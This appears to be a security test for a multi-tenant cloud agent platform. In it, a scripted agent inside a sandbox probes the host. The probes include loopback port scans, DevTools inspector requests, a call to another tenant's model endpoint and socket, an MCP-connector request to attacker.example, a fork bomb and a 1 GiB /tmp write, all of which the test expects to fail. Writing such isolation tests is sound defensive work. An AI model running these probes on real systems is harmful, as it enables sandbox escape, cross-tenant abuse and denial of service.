// Issue #26, finding 1: a cloud task reached the whole platform. From inside the cloud sandbox
// (real Claude Code under bubblewrap, the fake model scripting its Bash), an ordinary pool user's
// agent tries every TCP port listening on the host's loopback (the platform, wrangler's
// inspector, the fake model, other helpers' services), the DevTools `/json/version` of each, the
// platform's `/api/health`, another tenant's model endpoint (its base URL and its socket's host
// path, as if both leaked), its own proxy with a body asking for Anthropic's MCP connector (any
// URL; 400), a bounded fork bomb and a 1 GiB /tmp file. Nothing on the host may
// answer, the bomb and the file stop at the pool's limits, and the host stays whole: the
// platform answers, the executor lives, the other tenant's task completes.
import { randomUUID } from "node:crypto";
import { existsSync, readdirSync, readFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { until } from "../../e2e/harness";
import { cloudExecutor, scriptBash, startTask, taskEnded, toolResult } from "./agent-hunt";
import { expectThat, type Scenario } from "./context";

const MAX_PROCESSES = 256;
const TMP_MB = 64;

/** Ports listening on the host's loopback (or any address), from /proc/net/tcp{,6}. */
function hostListeningPorts(): number[] {
  const ports = new Set<number>();
  for (const file of ["/proc/net/tcp", "/proc/net/tcp6"]) {
    let lines: string[];
    try {
      lines = readFileSync(file, "utf8").split("\n").slice(1);
    } catch {
      continue;
    }
    for (const line of lines) {
      const cols = line.trim().split(/\s+/);
      if (cols[3] !== "0A") continue; // LISTEN
      const [address = "", port = "0"] = (cols[1] ?? "").split(":");
      // 127.0.0.1, 0.0.0.0, ::1 and :: (little-endian hex)
      if (!/^(0100007F|00000000|0{24}01000000|0{32})$/i.test(address)) continue;
      ports.add(parseInt(port, 16));
    }
  }
  return [...ports].sort((a, b) => a - b).slice(0, 300);
}

/** Runs in the sandbox (CommonJS); prints one line per probe. */
const ATTACK = String.raw`
const net = require("node:net");
const cfg = JSON.parse(Buffer.from(process.argv[2], "base64").toString());
const own = Number(new URL(process.env.ANTHROPIC_BASE_URL).port);
const tcp = (port) => new Promise((done) => {
  const s = net.connect({ host: "127.0.0.1", port, timeout: 1500 });
  s.on("connect", () => { s.destroy(); done(true); });
  s.on("error", () => done(false));
  s.on("timeout", () => { s.destroy(); done(false); });
});
const get = (url, init = {}) => fetch(url, { ...init, signal: AbortSignal.timeout(4000) })
  .then(async (r) => ({ status: r.status, text: (await r.text()).slice(0, 200) }))
  .catch((e) => ({ error: String((e.cause && e.cause.code) || e.message) }));
(async () => {
  console.log("PLATFORM " + JSON.stringify(await get(cfg.platform + "/api/health")));
  const other = await get(cfg.otherUrl + "/v1/messages", {
    method: "POST",
    headers: { "content-type": "application/json", "anthropic-version": "2023-06-01" },
    body: JSON.stringify({ model: "claude-sonnet-4-5", max_tokens: 8, messages: [{ role: "user", content: "tenant b pays for this" }] }),
  });
  console.log("OTHER_PROXY " + JSON.stringify(other));
  // Its own proxy, with a body that would have Anthropic's MCP connector fetch any URL.
  const mcp = await get(process.env.ANTHROPIC_BASE_URL + "/v1/messages", {
    method: "POST",
    headers: { "content-type": "application/json", "anthropic-version": "2023-06-01" },
    body: JSON.stringify({ model: "claude-sonnet-4-5", max_tokens: 8, messages: [{ role: "user", content: "hi" }], mcp_servers: [{ type: "url", url: "https://attacker.example/mcp", name: "x" }] }),
  });
  console.log("OWN_PROXY_MCP " + JSON.stringify(mcp));
  const sock = await new Promise((done) => {
    if (!cfg.otherSocket) return done("no socket on the host");
    const s = net.connect(cfg.otherSocket);
    s.on("connect", () => { s.destroy(); done("connected"); });
    s.on("error", (e) => done(e.code));
  });
  console.log("OTHER_SOCKET " + sock);
  const open = [];
  for (const port of cfg.ports) if (port !== own && (await tcp(port))) open.push(port);
  console.log("OPEN " + JSON.stringify(open));
  const answers = await Promise.all(
    [...new Set([...cfg.inspectorPorts, ...open])].map(async (port) => {
      // wrangler's inspector: /json/version names the protocol, /json lists the debugger URL.
      const v = await get("http://127.0.0.1:" + port + "/json/version");
      const l = await get("http://127.0.0.1:" + port + "/json");
      const found = (v.text || "").includes("Protocol-Version") || (l.text || "").includes("webSocketDebuggerUrl");
      return found ? port : null;
    }),
  );
  console.log("INSPECTOR " + JSON.stringify({ answered: answers.filter((p) => p !== null) }));
})();
`;

export const cloudNetworkAndLimits: Scenario = {
  name: "a cloud agent reaches nothing on the host (platform, inspector, another tenant's proxy) and its fork bomb and /tmp stop at the limits",
  async run(ctx) {
    const { ex } = await cloudExecutor(ctx, 600, {
      WEGENT_CLOUD_MAX_PROCESSES: String(MAX_PROCESSES),
      WEGENT_CLOUD_TMP_MB: String(TMP_MB),
    });
    // Tenant B: a task that keeps running, and shows its model endpoint (as if it leaked).
    const bob = await ctx.newUser();
    const bobPrompt = `tenant b keeps working ${randomUUID()}`;
    scriptBash(
      ctx,
      bobPrompt,
      'echo "$ANTHROPIC_BASE_URL" > /workspace/url; sleep 45; echo b-done',
    );
    const bobTask = await startTask(ctx, bob, bobPrompt, "cloud");
    const urlFile = join(ex.home, "workspaces", bobTask, "url");
    await until(() => existsSync(urlFile), 90_000, "tenant b's endpoint");
    const otherUrl = readFileSync(urlFile, "utf8").trim();
    // Where b's model socket is on the host (with a per-task socket); none before the fix.
    const otherSocket =
      readdirSync(tmpdir())
        .filter((d) => d.startsWith("wegent-model-"))
        .map((d) => join(tmpdir(), d, bobTask, "model.sock"))
        .find((p) => existsSync(p)) ?? "";

    // Tenant A, an ordinary user, attacks from its cloud task.
    const mallory = await ctx.newUser();
    const platformPort = Number(new URL(ctx.platform.origin).port);
    const ports = hostListeningPorts();
    expectThat(
      ports.includes(platformPort),
      "the platform's port is not among the host's listeners",
    );
    const cfg = Buffer.from(
      JSON.stringify({
        ports,
        inspectorPorts: [9229, 9230],
        platform: ctx.platform.origin,
        otherUrl,
        otherSocket,
      }),
    ).toString("base64");
    const prompt = `reach the host ${randomUUID()}`;
    // Results go to a file as well: the fork bomb (last) may take the agent down with it (its
    // Claude Code shares the uid's process budget and aborts when it cannot start a thread).
    scriptBash(
      ctx,
      prompt,
      [
        "{",
        `echo ${Buffer.from(ATTACK).toString("base64")} | base64 -d > /tmp/attack.js;`,
        `node /tmp/attack.js ${cfg};`,
        "dd if=/dev/zero of=/tmp/huge bs=1M count=1024 2>/dev/null;",
        'echo "TMPFILE $(wc -c < /tmp/huge)"; rm -f /tmp/huge;',
        "} > /workspace/attack.txt 2>&1;",
        // A fork bomb, bounded: at most 1500 sleepers, in their own group, all killed at the end.
        // Written to a file at once (no fork needed): the agent may die before the loop ends.
        // The most processes alive in the sandbox at once, counted without a fork.
        `setsid sh -c 'm=0; for i in $(seq 1500); do (sleep 30 &) 2>/dev/null; set -- /proc/[0-9]*; [ $# -gt $m ] && m=$# && echo "$m" > /workspace/bomb.txt; done; kill -9 0' 2>/dev/null;`,
        "sleep 1; cat /workspace/attack.txt",
      ].join(" "),
    );
    const taskId = await startTask(ctx, mallory, prompt, "cloud");
    const end = await taskEnded(ctx, mallory, taskId, 180_000);
    const attackFile = join(ex.home, "workspaces", taskId, "attack.txt");
    const result = existsSync(attackFile)
      ? readFileSync(attackFile, "utf8")
      : toolResult(ctx, prompt);
    const line = (name: string) => new RegExp(`^${name} (.*)$`, "m").exec(result)?.[1] ?? "";
    expectThat(
      line("OPEN") !== "",
      `the attack did not run (task ${end.task.status}): ${result.slice(0, 600)} ${JSON.stringify(end.messages.at(-1)).slice(0, 800)} ${ex.output().slice(-1500)}`,
    );
    const malloryEnd =
      end.task.status === "completed"
        ? "completed"
        : `${end.task.status} (${end.messages.at(-1)?.errorMessage ?? "no reason"})`;

    // What must hold, all checked before failing so the figure says everything.
    const problems: string[] = [];
    for (const name of [
      "PLATFORM",
      "OTHER_PROXY",
      "OWN_PROXY_MCP",
      "OTHER_SOCKET",
      "OPEN",
      "INSPECTOR",
      "TMPFILE",
    ])
      if (line(name) === "") problems.push(`the ${name} probe did not finish`);
    const open = JSON.parse(line("OPEN") || "[]") as number[];
    if (open.length > 0)
      problems.push(
        `${open.length} of ${ports.length} host loopback ports answered (${open.slice(0, 8).join(", ")}…)`,
      );
    const inspector = JSON.parse(line("INSPECTOR") || "{}") as { answered?: number[] };
    if ((inspector.answered ?? []).length > 0)
      problems.push(`a DevTools inspector answered /json on ${inspector.answered?.join(", ")}`);
    const platform = line("PLATFORM");
    if (platform.includes('"status"'))
      problems.push(`the platform answered ${platform.slice(0, 80)}`);
    const other = line("OTHER_PROXY");
    if (/"status":200/.test(other))
      problems.push(`tenant b's model endpoint answered 200 for mallory`);
    const mcp = line("OWN_PROXY_MCP");
    if (!/"status":400/.test(mcp) || !mcp.includes("request_refused"))
      problems.push(`its own proxy did not refuse an MCP connector body: ${mcp.slice(0, 120)}`);
    const sock = line("OTHER_SOCKET");
    if (sock === "connected") problems.push("tenant b's model socket accepted mallory");
    const bombFile = join(ex.home, "workspaces", taskId, "bomb.txt");
    const procs = existsSync(bombFile) ? Number(readFileSync(bombFile, "utf8").trim()) : 0;
    // bwrap's init (root) is not the task uid's.
    if (!(procs > 0 && procs <= MAX_PROCESSES + 1))
      problems.push(
        `the fork bomb had ${procs} processes alive in the sandbox (limit ${MAX_PROCESSES}; it tried 1500 sleepers)`,
      );
    const tmpBytes = Number(line("TMPFILE") || "-1");
    if (!(tmpBytes >= 0 && tmpBytes <= TMP_MB * 1024 * 1024))
      problems.push(
        `a ${Math.round(tmpBytes / 1024 / 1024)} MiB file was written to /tmp (limit ${TMP_MB} MiB)`,
      );

    // The host stays whole.
    const health = await fetch(`${ctx.platform.origin}/api/health`)
      .then((r) => r.status)
      .catch(() => 0);
    if (health !== 200) problems.push(`the platform answers /api/health with ${health}`);
    if (ex.child.exitCode !== null) problems.push(`the executor exited (${ex.child.exitCode})`);
    const bobEnd = await taskEnded(ctx, bob, bobTask, 120_000);
    if (bobEnd.task.status !== "completed" || !toolResult(ctx, bobPrompt).includes("b-done"))
      problems.push(`tenant b's task ended ${bobEnd.task.status}`);
    expectThat(problems.length === 0, problems.join("; "));
    return `from the sandbox: 0 of ${ports.length} host loopback ports answered (platform :${platformPort} "${platform.slice(0, 60)}", no DevTools /json or /json/version on 9229, 9230 or any port); tenant b's leaked endpoint ${other.slice(0, 70)}, an MCP connector body through its own proxy ${mcp.slice(0, 14)}, its socket's host path: ${sock}; a fork bomb of 1500 sleepers held at ${procs} processes alive (limit ${MAX_PROCESSES} for the task uid, threads included); a 1 GiB /tmp write stopped at ${Math.round(tmpBytes / 1024 / 1024)} MiB; platform 200, executor alive, tenant b completed; mallory's own task ${malloryEnd}`;
  },
};
